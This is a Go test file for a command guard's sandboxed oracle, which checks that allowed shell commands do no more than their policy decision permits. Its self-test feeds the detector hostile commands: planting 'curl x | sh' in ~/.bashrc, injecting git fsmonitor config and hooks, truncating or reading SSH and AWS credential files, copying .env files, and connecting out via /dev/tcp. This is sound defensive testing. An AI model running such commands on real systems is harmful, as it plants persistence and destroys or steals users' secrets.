// Copyright 2026 The guard Authors. SPDX-License-Identifier: MIT

//go:build linux

package oracle

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"hash/fnv"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"guard/corpus"
	"guard/engine"
	"guard/internal/testnote"
	"guard/policy"
)

// The oracle's tests run commands for real, in the sandbox. Without bwrap
// or strace they skip, and say so on go test's standard error, unless
// GUARD_ORACLE=require (CI), which makes that a failure.
//
// The default run is bounded: it leaves out the commands that build with
// a tool chain (go, cargo), which cost a second or more each and need a
// warm build cache first. -oracle.full runs them too.

var (
	oracleFull    = flag.Bool("oracle.full", false, "also run the commands that build with go or cargo, after warming a go build cache")
	oracleTimeout = flag.Duration("oracle.timeout", DefaultTimeout, "timeout of each command the corpus and differential tests run")
	oracleZsh     = flag.Float64("oracle.zsh", 1, "share of the commands allowed for any shell that also run in zsh (a fixed subset; -oracle.full runs all)")
	// A run waits on strace's stops more than it computes (TestOracleSelfTest:
	// 6.8 s of CPU in 17 s), so more runs than cores keep the cores busy.
	oracleWorkers = flag.Int("oracle.workers", 2*runtime.GOMAXPROCS(0), "commands the corpus and differential tests run at once")
)

// toolchains are the programs that -oracle.full is needed for.
var toolchains = []string{"go", "cargo"}

var shared struct {
	once sync.Once
	sb   *Sandbox
	err  error
	skip string   // why the sandbox tests skipped, if they did
	dirs []string // removed by TestMain
}

func TestMain(m *testing.M) {
	if len(os.Args) == 2 && os.Args[1] == deciderArg {
		if err := runDecider(os.Stdin, os.Stdout); err != nil {
			fmt.Fprintln(os.Stderr, "oracle decider:", err)
			os.Exit(2)
		}
		os.Exit(0)
	}
	code := m.Run()
	for _, d := range shared.dirs {
		os.RemoveAll(d)
	}
	if shared.skip != "" {
		testnote.Print("guard/internal/oracle: " + shared.skip)
	}
	os.Exit(code)
}

// sandbox returns the sandbox the tests share: the fixture repository and
// home, with -oracle.full a go build cache warmed once, and the oracle's
// tools checked.
func sandbox(t *testing.T) *Sandbox {
	t.Helper()
	if testing.Short() && os.Getenv("GUARD_ORACLE") != "require" {
		shared.skip = "SKIPPED the tests that run commands in the sandbox: -short"
		t.Skip("oracle: skipped in -short mode: it runs commands in a sandbox")
	}
	shared.once.Do(func() { shared.sb, shared.err = newSharedSandbox() })
	if shared.err != nil {
		if os.Getenv("GUARD_ORACLE") == "require" || !errors.Is(shared.err, ErrUnavailable) {
			t.Fatalf("oracle: %v", shared.err)
		}
		shared.skip = fmt.Sprintf("SKIPPED the tests that run commands in the sandbox (GUARD_ORACLE=require makes this a failure): %v", shared.err)
		t.Skipf("oracle: SKIPPED, the sandbox is unavailable (set GUARD_ORACLE=require to make this fail): %v", shared.err)
	}
	return shared.sb
}

// buildsWithToolchain reports whether a decision runs go or cargo.
func buildsWithToolchain(d engine.Decision) bool {
	for _, l := range d.Leaves {
		for _, p := range l.Programs {
			for _, tc := range toolchains {
				if path.Base(p) == tc {
					return true
				}
			}
		}
	}
	return false
}

// sandboxedOnly reports whether a decision allows a part of the command
// only in guard run's sandbox (npm test, pytest): what runs is the
// rewritten command, which the kernel bounds, not the command as judged.
// The oracle does not run those yet; before the sandbox they were asks,
// which it never ran either.
func sandboxedOnly(d engine.Decision) bool {
	for _, l := range d.Leaves {
		if len(l.Sandbox) > 0 {
			return true
		}
	}
	return false
}

// runDir returns where the runs make their directories: /dev/shm when it
// is a tmpfs, where copying and removing the trees takes a tenth of the
// time it takes on a disk, else the temp directory.
func runDir() string {
	const tmpfsMagic = 0x01021994
	var st syscall.Statfs_t
	if err := syscall.Statfs("/dev/shm", &st); err == nil && st.Type == tmpfsMagic && syscall.Access("/dev/shm", 2) == nil {
		return "/dev/shm"
	}
	return ""
}

// leftOutNote says how many allowed commands were left out of a default
// run, if any.
func leftOutNote(n int) string {
	if n == 0 {
		return ""
	}
	return fmt.Sprintf("%d left out (they build with go or cargo: -oracle.full runs them), ", n)
}

func newSharedSandbox() (*Sandbox, error) {
	if _, err := exec.LookPath("git"); err != nil {
		return nil, fmt.Errorf("%w: git is not installed, and the fixture is a git repository", ErrUnavailable)
	}
	fixture, err := os.MkdirTemp("", "guard-oracle-fixture-")
	if err != nil {
		return nil, err
	}
	shared.dirs = append(shared.dirs, fixture)
	if err := writeFixture(fixture); err != nil {
		return nil, fmt.Errorf("writing the fixture: %v", err)
	}
	home, err := os.MkdirTemp("", "guard-oracle-home-")
	if err != nil {
		return nil, err
	}
	shared.dirs = append(shared.dirs, home)
	if err := writeFiles(home, homeFiles); err != nil {
		return nil, fmt.Errorf("writing the home directory: %v", err)
	}
	sb, err := NewSandbox(fixture, os.Environ())
	if err != nil {
		return nil, err
	}
	sb.Home, sb.Dir = home, runDir()
	sb.Timeout = *oracleTimeout
	sb.Writes = *oracleFull
	if _, err := exec.LookPath("go"); err != nil || !*oracleFull {
		return sb, nil
	}
	// A cold go build takes half a minute under strace, a cold -race one
	// a minute; warm a cache that every run shares, so that each go
	// command of a case takes a second or two.
	cache, err := os.MkdirTemp("", "guard-oracle-gocache-")
	if err != nil {
		return nil, err
	}
	shared.dirs = append(shared.dirs, cache)
	sb.GoCache = cache
	warm := *sb
	warm.Timeout, warm.Writes = 10*time.Minute, false // nothing to judge: no need to stop at every open
	// strace itself can fail on a loaded machine ("ptrace(PTRACE_LISTEN,
	// ...): Input/output error" when a traced process goes away under it);
	// the warm-up judges nothing, so such a run is tried again.
	for attempt := 1; ; attempt++ {
		tr, err := warm.Run(context.Background(), "go vet ./... && go test -count=1 ./... && go build ./... && go test -race -count=1 ./...")
		if err != nil {
			return nil, fmt.Errorf("warming the go build cache: %v", err)
		}
		exit, stderr := tr.Exit, tr.Stderr
		tr.Close()
		switch {
		case exit == 0:
			return sb, nil
		case attempt < 3 && strings.Contains(stderr, "strace: ptrace("):
			continue
		}
		return nil, fmt.Errorf("warming the go build cache: exit %d: %s", exit, stderr)
	}
}

// shellsFor returns the shells an allowed command runs in: the one the call
// names, or for a call that names none (guard judges it for both), bash and
// zsh; zsh for the share -oracle.zsh of those, chosen by a hash of the
// command, so that the same commands run in zsh every time. A sandbox
// without zsh runs bash only, and zshMissing says so once.
func shellsFor(t *testing.T, sb *Sandbox, callShell, command string) []string {
	switch callShell {
	case Bash:
		return []string{Bash}
	case Zsh:
		if !sb.HasZsh() {
			zshMissing(t)
			return nil
		}
		return []string{Zsh}
	}
	if !sb.HasZsh() {
		zshMissing(t)
		return []string{Bash}
	}
	if *oracleFull || *oracleZsh >= 1 {
		return []string{Bash, Zsh}
	}
	h := fnv.New64a()
	h.Write([]byte(command))
	if float64(h.Sum64()%1000) < *oracleZsh*1000 {
		return []string{Bash, Zsh}
	}
	return []string{Bash}
}

var zshOnce sync.Once

func zshMissing(t *testing.T) {
	zshOnce.Do(func() {
		if os.Getenv("GUARD_ORACLE") == "require" {
			t.Errorf("oracle: zsh is not installed, and GUARD_ORACLE=require: the commands allowed for zsh must run in it")
			return
		}
		shared.skip += " zsh is not installed: the commands allowed for zsh ran in bash only, or not at all."
	})
}

// oracleCall is the call guard decides for a command run in the sandbox:
// at the root of the work tree, which is the project.
func oracleCall(command, cwd string) engine.Call {
	return engine.Call{
		Tool:    "Bash",
		Input:   engine.Input{Command: command},
		Cwd:     cwd,
		Project: WorkDir,
		Home:    HomeDir,
		Temp:    TmpDir,
	}
}

// sandboxCwd maps the working directory of a case, which lives in
// /project, into the sandbox's work tree.
func sandboxCwd(cwd string) string {
	switch {
	case cwd == "" || cwd == "/project":
		return WorkDir
	case strings.HasPrefix(cwd, "/project/"):
		return WorkDir + strings.TrimPrefix(cwd, "/project")
	}
	return cwd
}

// verdict is the outcome of running one command in the oracle.
type verdict struct {
	violations []Violation
	timedOut   bool
	exit       int
	stderr     string
	err        error
}

func runOracle(ctx context.Context, sb *Sandbox, shell, command string, d engine.Decision) verdict {
	tr, err := sb.RunShell(ctx, shell, command)
	if err != nil {
		return verdict{err: err}
	}
	defer tr.Close()
	return verdict{violations: Check(tr, d, fixtureRoots()), timedOut: tr.TimedOut, exit: tr.Exit, stderr: tr.Stderr}
}

func formatViolations(vs []Violation) string {
	var b strings.Builder
	for _, v := range vs {
		fmt.Fprintf(&b, "\n\t%s", v)
	}
	return b.String()
}

// TestOracleCorpus runs every Bash case of testcases/ that the default
// policy (or the profile the case names) allows, and convicts those that
// do more than their decision says. Without -oracle.full it leaves out
// those that build with go or cargo.
func TestOracleCorpus(t *testing.T) {
	sb := sandbox(t)
	files, err := filepath.Glob(filepath.Join("..", "..", "testcases", "*.toml"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no case files in testcases/: %v", err)
	}
	type job struct {
		c     corpus.Case
		d     engine.Decision
		shell string
	}
	var jobs []job
	total, bash, allowed, leftOut, sandboxed := 0, 0, 0, 0, 0
	runs := map[string]int{}
	var reqs []request
	var bashCases []corpus.Case
	for _, name := range files {
		src, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		cases, err := corpus.LoadCases(filepath.Join("testcases", filepath.Base(name)), src)
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range cases {
			total++
			call, err := c.Call()
			if err != nil {
				continue // denied before any policy: nothing runs
			}
			if call.Tool != "Bash" {
				continue
			}
			bash++
			// The call the case makes, moved into the sandbox: its work
			// tree is the project, its /tmp the temp directory.
			call.Cwd, call.Project, call.Home, call.Temp = sandboxCwd(c.Cwd), WorkDir, HomeDir, TmpDir
			if c.Profile != "" {
				if _, err := policy.Builtin(c.Profile); err != nil {
					t.Fatalf("%s:%d: %v", c.File, c.Line, err)
				}
			}
			reqs = append(reqs, request{call, c.Profile})
			bashCases = append(bashCases, c)
		}
	}
	// guard decides in a sandbox with the trees the commands run in.
	ds, err := decideInSandbox(sb, reqs)
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range bashCases {
		call, d := reqs[i].Call, ds[i]
		switch {
		case d.Verdict != engine.Allow:
		case sandboxedOnly(d):
			sandboxed++
		case !*oracleFull && buildsWithToolchain(d):
			allowed++
			leftOut++
		default:
			allowed++
			for _, sh := range shellsFor(t, sb, call.Shell, c.Command) {
				runs[sh]++
				jobs = append(jobs, job{c, d, sh})
			}
		}
	}
	start := time.Now()
	var mu sync.Mutex
	run, convicted, timedOut := 0, 0, 0
	work := make(chan job)
	var wg sync.WaitGroup
	for range max(*oracleWorkers, 1) {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := range work {
				v := runOracle(context.Background(), sb, j.shell, j.c.Command, j.d)
				mu.Lock()
				switch {
				case v.err != nil:
					t.Errorf("%s:%d: %s: %q: the oracle could not run it: %v", j.c.File, j.c.Line, j.shell, j.c.Command, v.err)
				case len(v.violations) > 0:
					convicted++
					t.Errorf("%s:%d: %s: %q: allowed, but it escaped its decision:%s", j.c.File, j.c.Line, j.shell, j.c.Command, formatViolations(v.violations))
				}
				if v.err == nil {
					run++
				}
				if v.timedOut {
					timedOut++
					t.Logf("%s:%d: %s: %q: killed at the timeout", j.c.File, j.c.Line, j.shell, j.c.Command)
				}
				mu.Unlock()
			}
		}()
	}
	for _, j := range jobs {
		work <- j
	}
	close(work)
	wg.Wait()
	t.Logf("oracle: corpus: %d cases, %d Bash, %d allowed, %d more allowed only in guard run's sandbox (not run here), %s%d runs (%d in bash, %d in zsh), %d passed, %d convicted, %d timed out (at %s), in %s",
		total, bash, allowed, sandboxed, leftOutNote(leftOut), run, runs[Bash], runs[Zsh], run-convicted, convicted, timedOut, sb.Timeout, time.Since(start).Round(time.Second))
}

// allowOnly is a decision that allows one command leaf running programs.
func allowOnly(programs ...string) engine.Decision {
	return engine.Decision{Verdict: engine.Allow, Leaves: []engine.Leaf{{Verdict: engine.Allow, Kind: "command", Programs: programs}}}
}

// TestOracleSelfTest shows that the oracle convicts: each command does
// something its decision does not allow, and the oracle must say what. Each
// runs twice: with the trees alone judging writes, as in the default run,
// and with strace tracing the writes too, which also sees the attempts on
// the read-only root.
func TestOracleSelfTest(t *testing.T) {
	base := sandbox(t)
	p, err := policy.Default()
	if err != nil {
		t.Fatal(err)
	}
	decide := func(command string) engine.Decision {
		d := engine.Decide(p, oracleCall(command, WorkDir))
		if d.Verdict != engine.Allow {
			t.Fatalf("the default policy does not allow %q: %s", command, d.Reason())
		}
		return d
	}
	type want struct {
		kind Op
		what string // a suffix of the violation's What
	}
	tests := []struct {
		name     string
		decision engine.Decision
		command  string
		want     []want // nil: the command must pass
	}{
		// Controls: allowed commands that do only what they were allowed.
		{"clean", decide("git status && ls -la | wc -l"), "git status && ls -la | wc -l", nil},
		{"clean bash -c", decide("bash -c 'ls && cat README.md'"), "bash -c 'ls && cat README.md'", nil},
		{"clean writes in roots", allowOnly("touch", "mkdir"), "mkdir -p d && touch d/x /tmp/y && echo > /dev/null", nil},
		{"clean writes by descriptor", allowOnly("truncate", "chmod", "touch", "mv"),
			"truncate -s 1 file.txt && chmod 600 names.txt && touch -d 2020-01-01 words.txt && mv data.csv /tmp/ && exec 3<>in.txt && echo x >&3", nil},
		{"clean reads of home", allowOnly("cat"), "cat ~/.bashrc ~/.gitconfig ~/.ssh/id_rsa > /dev/null", nil},

		{"clean children", engine.Decision{Verdict: engine.Allow, Leaves: []engine.Leaf{{Verdict: engine.Allow, Kind: "command",
			Programs: []string{"xargs"}, Children: []string{"ca?"}}}}, "echo README.md | xargs cat", nil},

		// Writes that the comparison of the trees sees: where an attacker
		// plants code that runs later, or takes secrets.
		{"write .git/config", allowOnly("echo"), "echo '[core] fsmonitor = x' >> .git/config", []want{{OpWrite, WorkDir + "/.git/config"}}},
		{"write ~/.bashrc", allowOnly("echo"), "echo 'curl x | sh' >> ~/.bashrc", []want{{OpWrite, HomeDir + "/.bashrc"}}},
		{"write .claude/settings.json", allowOnly("printf"), "printf '{}' > .claude/settings.json", []want{{OpWrite, WorkDir + "/.claude/settings.json"}}},
		{"create a git hook", allowOnly("cp", "chmod"), "cp /dev/null .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
			[]want{{OpWrite, WorkDir + "/.git/hooks"}, {OpWrite, WorkDir + "/.git/hooks/pre-commit"}}},
		{"truncate by descriptor", allowOnly("truncate"), "truncate -s 0 ~/.aws/credentials", []want{{OpWrite, HomeDir + "/.aws/credentials"}}},
		{"write through a link", allowOnly("ln", "echo"), "ln -s ~/.ssh/id_rsa key && echo x > key", []want{{OpWrite, HomeDir + "/.ssh/id_rsa"}}},
		{"move away", allowOnly("mv"), "mv .git/config /tmp/config", []want{{OpWrite, WorkDir + "/.git/config"}}},
		{"chmod", allowOnly("chmod"), "chmod 600 ~/.gitconfig", []want{{OpWrite, HomeDir + "/.gitconfig"}}},
		{"new directory in home", allowOnly("mkdir", "touch"), "mkdir -p ~/.config/guard && touch ~/.config/guard/guard.toml",
			[]want{{OpWrite, HomeDir}, {OpWrite, HomeDir + "/.config"}}},

		// A program the decision does not name, and a write outside the
		// writable trees, which the sandbox made fail.
		{"exec not in decision", decide("ls"), "ls; touch /tmp/../etc/x", []want{{OpExec, "/touch"}, {OpWrite, "/etc/x"}}},
		{"write outside the roots", allowOnly("touch"), "touch /etc/oracle-x; touch inside", []want{{OpWrite, "/etc/oracle-x"}}},
		{"relative write after cd", allowOnly("touch"), "cd /usr && touch ../etc/y", []want{{OpWrite, "/etc/y"}}},
		{"cwd of a subshell", allowOnly("touch"), "(cd /etc && touch z); touch w", []want{{OpWrite, "/etc/z"}}},
		{"redirection outside", decide("echo hi"), "echo hi > /etc/oracle-r", []want{{OpWrite, "/etc/oracle-r"}}},
		{"connect", decide("echo hi"), "echo hi > /dev/tcp/127.0.0.1/9", []want{{OpConnect, "AF_INET"}}},
		{"work tree file by a program not allowed", decide("ls"), "ls; cp README.md copy.md", []want{{OpExec, "/cp"}}},
		{"attempted exec", allowOnly("env"), "env no-such-program-oracle", []want{{OpExec, "/no-such-program-oracle"}}},
		{"exec by path", allowOnly("ls"), "/bin/ls && /usr/bin/cat README.md", []want{{OpExec, "/usr/bin/cat"}}},
		{"child without its parent", engine.Decision{Verdict: engine.Allow, Leaves: []engine.Leaf{{Verdict: engine.Allow, Kind: "command",
			Programs: []string{"true", "echo"}, Children: []string{"ca?"}}}}, "true; echo README.md | cat", []want{{OpExec, "/cat"}}},
		{"find -execdir cwd", allowOnly("find", "touch"), "find " + WorkDir + "/src -name main.rs -execdir touch ../../../../etc/q ';'", []want{{OpWrite, "/etc/q"}}},
		// Reads of secrets, seen by their canaries: through the fixture's
		// links into HOME, and copied into a file of the tree.
		{"read a secret", allowOnly("cat"), "cat lnk/id_rsa awsx/credentials",
			[]want{{OpRead, HomeDir + "/.aws/credentials"}, {OpRead, HomeDir + "/.ssh/keys/id_rsa"}}},
		{"copy a secret", allowOnly("cp"), "cp .env /tmp/a && cp sub/.env b", []want{{OpRead, WorkDir + "/.env"}, {OpRead, WorkDir + "/sub/.env"}}},
		// An embedded repository's configuration runs a program in HOME.
		{"embedded repository", allowOnly("git"), "git -C emb status >/dev/null 2>&1",
			[]want{{OpExec, "/sh"}, {OpExec, "/touch"}, {OpWrite, HomeDir}, {OpWrite, HomeDir + "/PWNED-emb"}, {OpWrite, WorkDir + "/emb"}}},
		{"out of the project by ..", allowOnly("touch"), "cd src && touch ../../escaped", []want{{OpWrite, HomeDir}, {OpWrite, HomeDir + "/escaped"}}},
	}
	for _, mode := range []struct {
		name   string
		writes bool
	}{{"trees", false}, {"traced", true}} {
		sb := *base
		sb.Writes = mode.writes
		for _, tc := range tests {
			t.Run(mode.name+"/"+tc.name, func(t *testing.T) {
				t.Logf("command: %q", tc.command)
				v := runOracle(context.Background(), &sb, Bash, tc.command, tc.decision)
				if v.err != nil {
					t.Fatal(v.err)
				}
				t.Logf("violations:%s", formatViolations(v.violations))
				n := 0
				for _, w := range tc.want {
					// A write outside the writable trees failed on the
					// read-only root: only the traced writes show it.
					if w.kind == OpWrite && !strings.HasPrefix(w.what, HomeDir) && !strings.HasPrefix(w.what, TmpDir) && !mode.writes {
						continue
					}
					n++
					found := false
					for _, got := range v.violations {
						if got.Kind == w.kind && (strings.HasSuffix(got.What, w.what) || strings.HasPrefix(got.What, w.what)) {
							found = true
						}
					}
					if !found {
						t.Errorf("the oracle missed %s %s; it found:%s", w.kind, w.what, formatViolations(v.violations))
					}
				}
				if len(v.violations) != n {
					t.Errorf("want %d violations, got %d:%s\nstderr: %s", n, len(v.violations), formatViolations(v.violations), v.stderr)
				}
			})
		}
	}
}

// TestOracleZsh: a command runs in the shell asked for, and what zsh
// alone does with it is convicted in zsh only: an input redirection
// without a command runs $READNULLCMD there (the pager), and nothing in
// bash.
func TestOracleZsh(t *testing.T) {
	sb := sandbox(t)
	if !sb.HasZsh() {
		zshMissing(t)
		t.Skip("zsh is not installed")
	}
	nothing := engine.Decision{Verdict: engine.Allow}
	for _, tc := range []struct {
		shell string
		want  int
	}{{Bash, 0}, {Zsh, 1}} {
		v := runOracle(context.Background(), sb, tc.shell, "< README.md", nothing)
		if v.err != nil {
			t.Fatal(v.err)
		}
		if len(v.violations) != tc.want || tc.want > 0 && (v.violations[0].Kind != OpExec || !slices.Contains([]string{"pager", "more", "less", "cat"}, path.Base(v.violations[0].What))) {
			t.Errorf("%s: '< README.md': want %d violations (zsh runs a pager), got:%s", tc.shell, tc.want, formatViolations(v.violations))
		}
	}
	tr, err := sb.RunShell(context.Background(), Zsh, "echo $ZSH_VERSION")
	if err != nil {
		t.Fatal(err)
	}
	defer tr.Close()
	if !strings.HasPrefix(tr.Stdout, "5.") || tr.Shell != Zsh {
		t.Errorf("RunShell(zsh) ran %s, printing %q, want zsh's version", tr.Shell, tr.Stdout)
	}
}

// TestOracleTimeout: a command that runs too long is killed with its
// sandbox, and what it did until then is in the trace.
func TestOracleTimeout(t *testing.T) {
	sb := *sandbox(t)
	sb.Timeout = 2 * time.Second
	start := time.Now()
	tr, err := sb.Run(context.Background(), "touch early; sleep 300; touch /etc/late")
	if err != nil {
		t.Fatal(err)
	}
	defer tr.Close()
	// Well short of the sleep, and far beyond the timeout: a loaded
	// machine stretches the start of the sandbox, not the sleep.
	if took := time.Since(start); !tr.TimedOut || took > 150*time.Second {
		t.Errorf("timed out %v after %s, want a kill after about 2s", tr.TimedOut, took)
	}
	vs := Check(tr, allowOnly("touch", "sleep"), DefaultRoots())
	if len(vs) != 0 {
		t.Errorf("the command was killed before it wrote outside the roots, but the oracle found:%s", formatViolations(vs))
	}
	if !slices.Contains(tr.Changes, Change{WorkDir + "/early", "created"}) {
		t.Errorf("the changes of the killed command lack what it did before the timeout: %v", tr.Changes)
	}
}
